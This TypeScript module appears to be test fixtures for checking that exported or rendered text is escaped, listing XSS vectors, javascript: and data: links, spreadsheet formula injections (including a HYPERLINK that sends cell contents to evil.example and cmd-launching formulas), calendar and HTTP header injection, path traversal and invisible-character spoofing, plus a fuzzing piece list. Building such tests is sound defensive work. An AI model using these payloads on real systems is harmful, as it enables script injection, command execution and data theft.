/**
 * Words that some reader takes for more than words: each with a mark of its own, so that it can be found again.
 *
 * Named for what they would be if they worked.
 */
export const payloads: Readonly<Record<string, (mark: string) => string>> = {
  'a script': (mark) => `${mark}<script>pwned('${mark}')</script>`,
  'an image that fails': (mark) => `${mark}<img src=x onerror=pwned()><svg/onload=pwned()>`,
  'the end of what stands around it': (mark) =>
    `${mark}</style></title></textarea></td></li></p>--></svg><script>pwned()</script>`,
  'an attribute': (mark) => `${mark}" autofocus onfocus="pwned()" style='x' x="`,
  'an entity': (mark) => `${mark} &lt;b&gt; &#60;i&#62; &amp;amp; &nbsp;`,
  'a template': (mark) => `${mark} {{constructor.constructor('pwned()')()}} \${pwned()} #{pwned()}`,
  'a link of a script': (mark) => `[${mark}](javascript:pwned()) <javascript:pwned()> javascript:pwned()`,
  'a link somewhere': (mark) => `[${mark}](https://evil.example) ![x](https://evil.example/x.png "t") [x][${mark}]`,
  'a reference': (mark) => `[${mark}]: https://evil.example "title"`,
  'a footnote': (mark) => `[^1]: ${mark} [^1]`,
  emphasis: (mark) => `**${mark}** __x__ _y_ *z* ~~w~~ \`code\` ***`,
  'half of a code span': (mark) => `${mark} \`\`\` \\`,
  'a cell': (mark) => `${mark} | x | y \\| z |`,
  'a heading': (mark) => `# ${mark} #`,
  'a quotation': (mark) => `> ${mark}`,
  'an ordered list': (mark) => `1. ${mark}`,
  'a task': (mark) => `[ ] ${mark}`,
  'a rule': (mark) => `*** ${mark}\n***\n___\n---\n===`,
  'a fence': (mark) => `${mark}\n\`\`\`html\n<b>\n~~~\n:::note`,
  'an indented block': (mark) => `    ${mark}\n\t\tx`,
  'a table': (mark) => `${mark}\n| a | b |\n|---|---|\n| c | d |\n:-- | --:`,
  'markup over lines': (mark) => `${mark}\n<div>\n<!-- \n]]>\n<?php\n</div>`,
  'a formula': (mark) => `=HYPERLINK("https://evil.example?"&A1,"${mark}")`,
  'a sum': (mark) => `+1+cmd|' /C calc'!A0 ${mark}`,
  'a difference': (mark) => `-1+1 ${mark}`,
  'a function': (mark) => `@SUM(1+1)*cmd|' /C calc'!A0 ${mark}`,
  'a formula in the next cell': (mark) => `${mark};=1+1;"=2+2";\t=3+3,=4+4,"=5+5`,
  'a formula in the next row': (mark) => `${mark}\n=1+1\r\n+2+2\n-3+3\n@SUM(4)`,
  'a formula behind a sign that is not seen': (mark) => `\u200b\ufeff\u00a0=1+1 ${mark}`,
  'an event': (mark) => `${mark}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nATTACH:https://evil.example`,
  'an escaped event': (mark) => `${mark}\\nBEGIN:VALARM\\;X=1\\,y\\\\`,
  'a line that other programs end': (mark) => `${mark}\u2028BEGIN:VEVENT\u2029X:1\u0085Y:2\u000bZ:3\u000cW:4\rV:5`,
  'a header': (mark) => `${mark}\r\nSet-Cookie: hindsight=pwned\r\n\r\n<script>pwned()</script>`,
  'a way out of a folder': (mark) => `../../${mark}/..\\..\\"; filename*=UTF-8''pwned.exe`,
  'reversed words': (mark) => `${mark} \u202egpj.exe\u202c \u2067x\u2066 \u200fy`,
  'signs that are not seen': (mark) => `${mark}\u200b\u0000\u0007\u001b[31m\u009b1m\ufeff\u2060`,
  'half of a sign': (mark) => `${mark} \ud800 \udfff x\ud83d`,
  'a prototype': (mark) => `__proto__ ${mark} constructor`,
}

/** Light Markdown that would be more than it should, were it believed; each with its mark. */
export const markups: Readonly<Record<string, (mark: string) => string>> = {
  'a link of a script': (mark) => `[${mark}](javascript:pwned()) [x](JaVaScRiPt:pwned()) [x](java\tscript:pwned())`,
  'a link of data': (mark) => `[${mark}](data:text/html,<script>pwned()</script>) <vbscript:pwned()>`,
  'a link of entities': (mark) => `[${mark}](&#106;avascript&colon;pwned()) [x](javascript&#58;pwned())`,
  'a link of no scheme': (mark) => `[${mark}](//evil.example) [x](/b/other) [x](#pwned) [x](?q) [x](<>)`,
  'a link with an attribute': (mark) => `[${mark}](https://evil.example/"onmouseover="pwned() "t" onclick=pwned()")`,
  'a link with a title': (mark) => `[${mark}](https://links.example '"><script>pwned()</script>')`,
  'a link in a link': (mark) => `[a [${mark}](https://links.example/1) b](https://links.example/2)`,
  'a link of an image': (mark) => `[![${mark}](https://evil.example/x.png)](https://links.example)`,
  'a link that seems to lead elsewhere': (mark) => `[https://bank.example ${mark}](https://links.example/x)`,
  'a link that closes an issue': (mark) => `${mark} closes [this](https://links.example/o/r/issues/1)`,
  autolinks: (mark) => `<https://links.example/${mark}> <ftp://evil.example> <eve@evil.example> www.links.example`,
  'an autolink in emphasis': (mark) =>
    `**https://links.example/${mark}** _www.links.example_ https://links.example/*x*`,
  'an image': (mark) => `![${mark}](https://evil.example/x.png) !\\[x](https://links.example) ![x][1]`,
  'a reference link': (mark) =>
    `[${mark}][1] [1] [${mark}][]\n\n[1]: javascript:pwned() "t"\n[${mark}]: https://evil.example`,
  'a footnote': (mark) => `${mark}[^1]\n\n[^1]: https://evil.example`,
  'nested emphasis': (mark) => `***${mark}*** **a *b **c *d** e* f** *a _b *c_ d* __${mark}__*x*_y_**z**`,
  'emphasis that touches words': (mark) => `a**"${mark}"**b *a*b _c_ **d**e ***f**g* *_h_* **__i__** ~~j~~`,
  'half of emphasis': (mark) => `**${mark} *x __y \`z`,
  'code of backticks': (mark) => `\`\` ${mark}\` \`\` \`\`\` x\`\`y \`\`\` \` \` \`  z  \``,
  'code of markup': (mark) => `\`<b>${mark}</b> &lt; **x** | \\\``,
  'a fence': (mark) => `~~~html onload=pwned()\n<script>${mark}</script>\n\`\`\`\n# x\n~~~\n\n\`\`\`\nnever closed`,
  'indented code': (mark) => `    <b>${mark}</b>\n\n\t# x`,
  headings: (mark) => `# ${mark}\n\n## **x** #\n\n###### [y](https://links.example)\n\n#`,
  'underlined headings': (mark) => `${mark}\n===\n\nx\ny\n---\n\n***\n___\n- - -`,
  'front matter': (mark) => `---\ntitle: ${mark}\n---\n`,
  'a table': (mark) => `| ${mark} | b |\n|---|:-:|\n| c | <b>d</b> |`,
  'a block of HTML': (mark) => `<div onclick=pwned()>\n${mark}\n\n**x**\n</div>\n<!-- -->\n<style>*{}</style>`,
  'inline HTML': (mark) => `a <b>${mark}</b><br><img src=x onerror=pwned()> **<i>x**</i> </p></li>`,
  entities: (mark) => `${mark} &lt;script&gt; &amp;lt; &#60;b&#62; &NewLine; &#0; &copy &copy;`,
  'a quotation': (mark) => `> ${mark}\nlazy\n> > - x\n> > 1. y\n\n> z\n\n> own`,
  lists: (mark) => `- ${mark}\n* other\n+ third\n- \n\n3. c\n4. d\n1) e\n- [ ] task\n  para\n\n  > q`,
  'a list of blocks': (mark) => `1. # ${mark}\n2. ***\n3. \`\`\`\n   x\n   \`\`\`\n4. - - a\n     - b`,
  'line ends': (mark) => `${mark}  \nx\\\ny\u2028z\r\n\u000bw\n# v\n+ u\n1. t`,
  'signs at the start of a line': (mark) => `**x**\\\n\\# ${mark}\\\n\\- y\\\n1\\. z\\\n\\> w\\\n=\\\n:-`,
  'signs that are not seen': (mark) => `**\u202e${mark}\u200b** [\u2066x](https://links.example/\u202e) \u0000\ud800`,
}

/** How exports part lines. */
const lineEnds = /\r\n|[\n\r\v\f\u0085\u2028\u2029]/u

/** Harmless words in the same lines: what a reader should make of the others, apart from the letters. */
export function harmless(text: string, mark: string): string {
  const lines = text.split(lineEnds).map((line) => {
    const words = line
      .replaceAll('\t', ' ')
      .replace(/[\p{Cc}\p{Cs}\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/gu, '')
      .trim()
    if (words === '') return ''
    const list = /^[-*•]\s+\S/u.test(words) ? '- ' : ''
    return list + (words.includes(mark) ? mark : 'x')
  })
  return lines.join('\n')
}

/** What those are made of, to be put together by chance. */
export const pieces: readonly string[] = [
  ...[
    '<',
    '>',
    '</',
    '<!--',
    '-->',
    '<script>',
    '</script>',
    '<img src=x onerror=pwned()>',
    '<b>',
    '"',
    "'",
    '&',
    '&lt;',
  ],
  ...['*', '**', '_', '__', '~~', '`', '```', '[', ']', '(', ')', '](', '![', '|', '\\', '#', '##', '>', '-', '+', '='],
  ...[
    '1.',
    '2)',
    ':',
    ':-',
    '---',
    '***',
    '===',
    '~~~',
    '[x]',
    '[^1]',
    '[^1]:',
    '<https://evil.example>',
    'javascript:',
  ],
  ...[
    'www.evil.example',
    'https://evil.example/?q=_x_',
    'eve@evil.example',
    '$',
    '{',
    '}',
    ';',
    ',',
    '@',
    '^',
    '!',
    '?',
  ],
  ...[
    '\n',
    '\n\n',
    '\r\n',
    '\n- ',
    '\n* ',
    '\n1. ',
    '\n> ',
    '\n# ',
    '\n    ',
    '\n\t',
    '\n|',
    '\n---\n',
    '\u2028',
    '\u000b',
  ],
  ...[' ', '  ', '\t', '\u00a0', '\u200b', '\u202e', '\ud800', 'word', 'Ж', '漢', '🚒', '0'],
]

/** Addresses that lead elsewhere than they seem to, or out of where they stand; some of them the schema refuses. */
export const addresses: readonly string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//https://links.example',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  '//evil.example',
  'https://links.example/"onmouseover="pwned()',
  "https://links.example/'onmouseover='pwned()",
  'https://links.example/><script>pwned()</script>',
  'https://links.example/)[x](javascript:pwned())',
  'https://links.example/>)<img src=x onerror=pwned()>',
  'https://links.example/|cell|',
  'https://links.example/\\',
  'https://links.example/\n\n# heading',
  'https://links.example/ onclick=pwned()',
  'https://links.example/&quot;&gt;&lt;b&gt;',
  'https://links.example\r\nATTACH:https://evil.example',
  'HTTPS://LINKS.EXAMPLE/',
  '=HYPERLINK("https://evil.example")',
]
